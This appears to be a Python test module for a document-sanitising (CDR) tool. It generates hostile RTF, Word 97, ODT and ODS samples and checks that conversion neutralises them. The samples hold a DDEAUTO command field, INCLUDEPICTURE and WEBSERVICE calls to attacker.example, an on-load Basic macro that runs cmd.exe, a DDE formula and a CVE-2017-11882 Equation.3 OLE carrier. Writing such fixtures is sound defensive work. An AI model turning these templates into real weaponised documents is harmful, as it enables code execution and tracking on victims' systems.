"""Hostile legacy and OpenDocument files (RTF, Word 97, ODT, ODS): cdr converts them with LibreOffice and
rebuilds the OOXML result, so the attack must not survive the round trip."""

from __future__ import annotations

from pathlib import Path

from tests import office_builders as base
from tests.attacks.builders import Expect, sample


@sample("rtf_ddeauto", ".rtf", "dde-field", "RTF 1.9.1 \\field\\fldinst: DDEAUTO in RTF (converted to docx)")
def rtf_ddeauto(work: Path) -> bytes:
    return (
        b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\pard Invoice \\par"
        b'{\\field{\\*\\fldinst {DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "/k calc.exe"}}'
        b"{\\fldrslt {x}}}\\par"
        b'{\\field{\\*\\fldinst {INCLUDEPICTURE "http://attacker.example/t.png" \\\\d}}{\\fldrslt {y}}}\\par}'
    )


@sample(
    "doc_dde_via_libreoffice",
    ".doc",
    "dde-field",
    "Word 97 binary with a DDEAUTO field (LibreOffice-written)",
)
def doc_dde_via_libreoffice(work: Path) -> bytes:
    source = work / "dde_source.rtf"
    source.write_bytes(rtf_ddeauto(work))
    return base.libreoffice(work, source, "doc:MS Word 97").read_bytes()


@sample(
    "doc_benign_via_libreoffice",
    ".doc",
    "control",
    "Word 97 binary memo (LibreOffice-written): must convert and release",
    Expect.RELEASED,
)
def doc_benign_via_libreoffice(work: Path) -> bytes:
    source = work / "memo_source.rtf"
    source.write_bytes(b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\pard Meeting memo: room 2.\\par}")
    return base.libreoffice(work, source, "doc:MS Word 97").read_bytes()


def _odf(mimetype: str, content: str, extra: dict[str, str]) -> bytes:
    """An ODF package (ODF 1.2 part 3): mimetype first and stored, then the manifest and parts."""
    import zipfile
    from io import BytesIO

    files = {
        "META-INF/manifest.xml": (
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
            f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            + "".join(
                f'<manifest:file-entry manifest:full-path="{n}" manifest:media-type="text/xml"/>'
                for n in extra
            )
            + "</manifest:manifest>"
        ),
        "content.xml": content,
        **extra,
    }
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(zipfile.ZipInfo("mimetype"), mimetype)
        for name, text in files.items():
            package.writestr(name, text)
    return out.getvalue()


ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" '
    'office:version="1.2"'
)


@sample(
    "odt_basic_macro_on_load",
    ".odt",
    "macros",
    "ODF 1.2 §10.3 office:event-listeners (dom:load) calling a Basic macro",
)
def odt_basic_macro_on_load(work: Path) -> bytes:
    content = (
        f"<office:document-content {ODF_NS}><office:scripts><office:event-listeners>"
        '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
        "</office:event-listeners></office:scripts><office:body><office:text><text:p>会議資料</text:p>"
        '<text:p><text:a xlink:href="file:///C:/Windows/System32/calc.exe">開く</text:a></text:p>'
        "</office:text></office:body></office:document-content>"
    )
    basic = (
        '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">'
        'Sub Main\n Shell("cmd.exe /c calc")\nEnd Sub</script:module>'
    )
    return _odf("application/vnd.oasis.opendocument.text", content, {"Basic/Standard/Module1.xml": basic})


@sample(
    "ods_dde_function", ".ods", "dde-formula", "OpenFormula DDE() (ODF 1.2 part 2 §6.10) converted to Excel"
)
def ods_dde_function(work: Path) -> bytes:
    content = (
        f'<office:document-content {ODF_NS}><office:body><office:spreadsheet><table:table table:name="S">'
        '<table:table-row><table:table-cell office:value-type="string"><text:p>品目</text:p></table:table-cell>'
        '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)" '
        'office:value-type="float" office:value="0"><text:p>0</text:p></table:table-cell>'
        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://attacker.example/&quot;)" '
        'office:value-type="string" office:string-value=""><text:p/></table:table-cell>'
        "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    return _odf("application/vnd.oasis.opendocument.spreadsheet", content, {})


@sample(
    "rtf_objdata_equation",
    ".rtf",
    "ole-embedding",
    "CVE-2017-11882 carrier: RTF \\\\objupdate Equation.3 object with \\\\objdata",
)
def rtf_objdata_equation(work: Path) -> bytes:
    ole = (
        b"\x01\x05\x00\x00\x02\x00\x00\x00\x0b\x00\x00\x00Equation.3\x00"
        + b"\x00" * 8
        + b"\xd0\xcf\x11\xe0"
        + b"A" * 200
    )
    return (
        b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\pard Quotation \\par"
        b"{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}\\objw380\\objh260{\\*\\objdata "
        + ole.hex().encode()
        + b"}{\\result {\\pict\\wmetafile8 0100}}}\\par}"
    )
